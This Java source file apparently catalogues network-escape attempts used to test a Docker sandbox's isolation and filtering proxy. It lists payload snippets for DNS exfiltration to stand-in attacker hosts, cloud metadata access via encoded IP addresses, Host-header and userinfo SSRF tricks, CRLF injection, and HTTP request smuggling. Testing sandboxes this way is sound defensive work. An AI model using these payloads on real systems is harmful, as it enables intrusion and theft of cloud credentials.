package io.isol8.docker.internal;

import java.util.stream.Stream;

/**
 * A way around the filter of the network.
 *
 * @param control what stops it
 * @param code what a program does, in the words of attack.py
 */
record Bypass(String name, Control control, String code) {

    /** What keeps programs from what they may not reach. */
    enum Control {
        /** A sandbox has no interface but loopback. */
        NO_NETWORK,
        /** Loopback, and what else there is, is the sandbox's own and not this machine's. */
        OWN_NETWORK,
        /** What goes to the proxy is looked at. */
        FILTER
    }

    private static Bypass past(String name, String code) {
        return new Bypass(name, Control.NO_NETWORK, code);
    }

    private static Bypass near(String name, String code) {
        return new Bypass(name, Control.OWN_NETWORK, code);
    }

    private static Bypass through(String name, String code) {
        return new Bypass(name, Control.FILTER, code);
    }

    static Stream<Bypass> all() {
        return Stream.of(pastTheProxy(), nearby(), toOthers(), toAddresses(), inOtherWords(), twoInOne())
                .flatMap(ways -> ways);
    }

    private static Stream<Bypass> pastTheProxy() {
        return Stream.of(
                past("TCP to a public address", "tcp(EVIL, 80)"),
                past("UDP to a public address", "udp(EVIL, 443)"),
                past("TCP to the bridge", "tcp(BRIDGE, TCP)"),
                past("UDP to the bridge", "udp(BRIDGE, UDP)"),
                past("DNS by UDP", "udp(EVIL, 53, question('told.evil.example'))"),
                past(
                        "DNS by TCP",
                        "question = question('told.evil.example')\ntcp(EVIL, 53, bytes([0, len(question)]) + question)"),
                past("DNS by TLS to an address", "tcp(EVIL, 443, hello('dns.evil.example'))"),
                past("DNS as the system does it", "attempt(lambda: socket.getaddrinfo('told.evil.example', 80))"),
                past("IPv6", "tcp6(EVIL6, 80)"),
                past("as another user, or in namespaces of one's own", "become_somebody_else()\ntcp(EVIL, 80)"));
    }

    private static Stream<Bypass> nearby() {
        return Stream.of(
                near("TCP to the machine's loopback", "tcp('127.0.0.1', TCP)"),
                near("UDP to the machine's loopback", "udp('127.0.0.1', UDP)"),
                near("TCP to another address of the machine", "tcp(DOCKERS, TCP)"),
                near("UDP to another address of the machine", "udp(DOCKERS, UDP)"));
    }

    private static Stream<Bypass> toOthers() {
        return Stream.of(
                through("a host that is denied", "get('http://evil.example/')"),
                through("upper case", "get('http://EVIL.Example/')"),
                through("a dot at the end", "get('http://evil.example./')"),
                through("a port", "get('http://evil.example:80/')"),
                through("the header of a host that is allowed", "get('http://evil.example/', host='good.example')"),
                through("a tunnel to a host that is denied", "tunnel('Evil.Example.:443', hello('evil.example'))"),
                through("DNS over HTTPS", "tunnel('dns.evil.example:443', hello('dns.evil.example'))"),
                through("another port of an allowed host", "get('http://good.example:8080/')"),
                through("a tunnel to another port of an allowed host", "tunnel('good.example:22')"),
                through("two ports", "get('http://good.example:80:8080/')"),
                through(
                        "a pattern that costs too much to say no",
                        "get(f'http://{\"a\" * 60}.{\"a\" * 60}.{\"a\" * 60}.good.example/')"),
                through(
                        "a listener killed and replaced",
                        "kill_everybody()\nlisten_instead()\nget('http://evil.example/')"));
    }

    private static Stream<Bypass> toAddresses() {
        return Stream.of(
                through("the address of a host that is denied", "get(f'http://{EVIL}/')"),
                through("the address of a host that is denied, mapped", "get(f'http://[::ffff:{EVIL}]/')"),
                through("the address of metadata", "get('http://169.254.169.254/latest/')"),
                through("metadata in a tunnel", "tunnel('169.254.169.254:80')"),
                through("metadata in decimal", "get('http://2852039166/')"),
                through("metadata in octal", "get('http://025177524776/')"),
                through("metadata in octal parts", "get('http://0251.0376.0251.0376/')"),
                through("metadata in hexadecimal", "get('http://0xa9fea9fe/')"),
                through("metadata in hexadecimal parts", "tunnel('0xa9.0xfe.0xa9.0xfe:80')"),
                through("metadata mapped", "get('http://[::ffff:169.254.169.254]/')"),
                through("metadata mapped in hexadecimal", "tunnel('[::ffff:a9fe:a9fe]:80')"),
                through("metadata translated", "get('http://[64:ff9b::a9fe:a9fe]/')"),
                through("metadata by 6to4", "get('http://[2002:a9fe:a9fe::1]/')"),
                through("metadata by redirect", "browse('http://redirect.good.example/redirect')"),
                through("loopback", "get('http://127.0.0.1/')"),
                through("loopback in short", "get('http://127.1/')"),
                through("loopback of IPv6", "get('http://[::1]/')"),
                through("no address", "get('http://0.0.0.0/')"),
                through("the bridge", "get(f'http://{DOCKERS}/')"),
                through("an allowed name with a private address", "get('http://private.good.example/')"),
                through("a tunnel to an allowed name with a private address", "tunnel('private.good.example:443')"),
                through("an allowed name with a private address of IPv6", "get('http://local6.good.example/')"),
                through(
                        "a name that changes",
                        "get('http://changes.good.example/')\nget('http://changes.good.example/')"));
    }

    private static Stream<Bypass> inOtherWords() {
        return Stream.of(
                through("a user in front of a host that is denied", "get('http://good.example@evil.example/')"),
                through("a user who looks like a host", "get('http://evil.example@good.example/')"),
                through("the header of another host", "get('http://good.example/', host='evil.example')"),
                through("a tunnel to another TLS server", "tunnel('good.example:443', hello('evil.example'))"),
                through(
                        "a tunnel to another TLS server in the same breath",
                        "proxy(b'CONNECT good.example:443 HTTP/1.1\\r\\n\\r\\n' + hello('evil.example'))"),
                through("a line's end in the target", "get('http://good.example/\\r\\nHost: evil.example\\r\\nX: ')"),
                through("CR in the target", "get('http://good.example/\\rHost: evil.example')"),
                through("LF in the target", "get('http://good.example/ HTTP/1.1\\nHost: evil.example\\nX:')"),
                through(
                        "a line's end in the target of a tunnel",
                        "tunnel('good.example:443\\r\\nX: \\r\\n\\r\\nevil')"));
    }

    private static Stream<Bypass> twoInOne() {
        String second = "'GET /evil HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'";
        String elsewhere = "'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'";
        return Stream.of(
                through(
                        "a second request in the same breath",
                        "proxy('GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' + " + elsewhere
                                + ")"),
                through("a second request behind a body", "post('Content-Length: 2', 'hi' + " + elsewhere + ")"),
                through(
                        "smuggled by length and chunks",
                        "post('Content-Length: 4\\r\\nTransfer-Encoding: chunked', '0\\r\\n\\r\\n' + " + second + ")"),
                through(
                        "smuggled by chunks and length",
                        "post('Transfer-Encoding: chunked\\r\\nContent-Length: 5', '0\\r\\n\\r\\n' + " + second + ")"),
                through("smuggled by two lengths", "post('Content-Length: 0\\r\\nContent-Length: 60', " + second + ")"),
                through(
                        "smuggled by an encoding that only some know",
                        "post('Transfer-Encoding: xchunked', '0\\r\\n\\r\\n' + " + second + ")"),
                through(
                        "smuggled by a space before a colon",
                        "post('Transfer-Encoding : chunked', '0\\r\\n\\r\\n' + " + second + ")"),
                through(
                        "smuggled in a chunk that is longer than it says",
                        "post('Transfer-Encoding: chunked', '5\\r\\nhello' + " + second + ")"));
    }

    @Override
    public String toString() {
        return name;
    }
}
